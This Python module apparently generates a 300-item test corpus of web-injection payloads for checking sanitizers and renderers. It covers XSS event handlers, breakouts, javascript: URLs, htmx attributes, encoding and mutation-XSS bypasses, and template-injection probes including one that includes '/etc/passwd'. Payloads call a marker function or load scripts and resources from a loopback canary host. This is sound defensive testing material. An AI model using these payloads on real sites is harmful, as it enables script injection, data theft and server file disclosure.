"""Texts that try to run a script or to send a request from a page. Each calls `ran` or asks 127.0.0.2 if it works."""

from __future__ import annotations

from collections.abc import Iterator

OUTSIDE = "//127.0.0.2"
COUNT = 300

_EVENTS = (
    "onload",
    "onerror",
    "onclick",
    "onfocus",
    "onmouseover",
    "onanimationstart",
    "ontoggle",
)
_TAGS = (
    "<img src=x {event}=ran({id})>",
    "<svg {event}=ran({id})>",
    "<body {event}=ran({id})>",
    "<details open {event}=ran({id})>",
    "<input autofocus {event}=ran({id})>",
    "<video src=x {event}=ran({id})></video>",
    "<iframe {event}=ran({id})></iframe>",
    "<marquee {event}=ran({id})>",
)
_BREAKOUTS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</code></pre>",
    "-->",
    "]]>",
)
_SCRIPTS = (
    "<script>ran({id})</script>",
    "<ScRiPt>ran({id})</sCrIpT>",
    "<script src={outside}/{id}.js></script>",
    "<script type=module>ran({id})</script>",
    "<svg><script>ran({id})</script></svg>",
    "<math><mtext><script>ran({id})</script></mtext></math>",
)
_ADDRESSES = (
    "javascript:ran({id})",
    "JaVaScRiPt:ran({id})",
    "java\tscript:ran({id})",
    "data:text/html,<script>ran({id})</script>",
    "{outside}/{id}",
    "[link](javascript:ran({id}))",
    "![picture]({outside}/{id}.png)",
    "<a href=javascript:ran({id})>x</a>",
    "<a href={outside}/{id} ping={outside}/ping>x</a>",
)
_REQUESTS = (
    "<img src={outside}/{id}.png>",
    "<link rel=stylesheet href={outside}/{id}.css>",
    "<link rel=prefetch href={outside}/{id}>",
    "<style>@import url({outside}/{id}.css)</style>",
    "<div style=background:url({outside}/{id})>x</div>",
    "<object data={outside}/{id}></object>",
    "<embed src={outside}/{id}>",
    "<iframe src={outside}/{id}></iframe>",
    "<iframe srcdoc='<script>parent.ran({id})</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url={outside}/{id}'>",
    "<base href={outside}/>",
    "<form action={outside}/{id}><button autofocus>x</button></form>",
    "<video poster={outside}/{id}.png></video>",
    "<audio src={outside}/{id} autoplay></audio>",
    "<picture><source srcset={outside}/{id}><img></picture>",
)
_OWN_ATTRIBUTES = (
    "<div hx-get=/health hx-trigger=load hx-on::after-request=ran({id})>x</div>",
    "<div hx-get={outside}/{id} hx-trigger=load>x</div>",
    "<div hx-trigger='load[ran({id})]' hx-get=/health>x</div>",
    "<div hx-vals='js:{{x: ran({id})}}' hx-get=/health hx-trigger=load>x</div>",
    "<div data-plot={outside}/{id}>x</div>",
    "<a data-go=h href=javascript:ran({id})>x</a>",
)
_ATTRIBUTES = (
    '" onmouseover="ran({id})" x="',
    "' onfocus='ran({id})' autofocus x='",
    '" hx-get="{outside}/{id}" hx-trigger="load" x="',
    '" style="background:url({outside}/{id})" x="',
    '" src="{outside}/{id}" x="',
    "` onmouseover=ran({id}) x=`",
)
_TEMPLATES = (
    "{{{{ ran({id}) }}}}",
    "{{% include '/etc/passwd' %}}{id}",
    "{{{{ ''.__class__.__mro__ }}}}{id}",
    "${{ran({id})}}",
    "#{{ran({id})}}",
    "<%= ran({id}) %>",
)
_ENCODINGS = (
    "&lt;script&gt;ran({id})&lt;/script&gt;",
    "&#60;script&#62;ran({id})&#60;/script&#62;",
    "\\u003cscript\\u003eran({id})\\u003c/script\\u003e",
    "%3Cscript%3Eran({id})%3C/script%3E",
    "\ufeff<script>ran({id})</script>",
    "\u202e<script>ran({id})</script>",
    "<noscript><p title='</noscript><img src=x onerror=ran({id})>'>",
    "<svg><style><img src=x onerror=ran({id})></style>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran({id})>",
    "<!--><img src=x onerror=ran({id})>",
)


def _families() -> Iterator[str]:
    """Yield the patterns, each family in turn."""
    yield from _ADDRESSES
    yield from _REQUESTS
    yield from _OWN_ATTRIBUTES
    yield from _ATTRIBUTES
    yield from _TEMPLATES
    yield from _ENCODINGS
    for breakout in _BREAKOUTS:
        for pattern in (*_SCRIPTS, *_REQUESTS[:4]):
            yield breakout + pattern
    for event in _EVENTS:
        for pattern in _TAGS:
            yield pattern.replace("{event}", event)
    for breakout in ('">', "'>", "</title>", "</textarea>"):
        for pattern in (*_REQUESTS[4:], *_OWN_ATTRIBUTES, *_ENCODINGS):
            yield breakout + pattern


def make_payloads() -> list[str]:
    """Return the payloads; each has its number."""
    patterns = list(_families())[:COUNT]
    assert len(patterns) == COUNT
    return [
        pattern.format(id=number, outside=OUTSIDE) for number, pattern in enumerate(patterns)
    ]


PAYLOADS = make_payloads()


def batches(size: int) -> list[str]:
    """Return all payloads in few texts, for places that take one text for each request."""
    return ["\n".join(PAYLOADS[start : start + size]) for start in range(0, COUNT, size)]
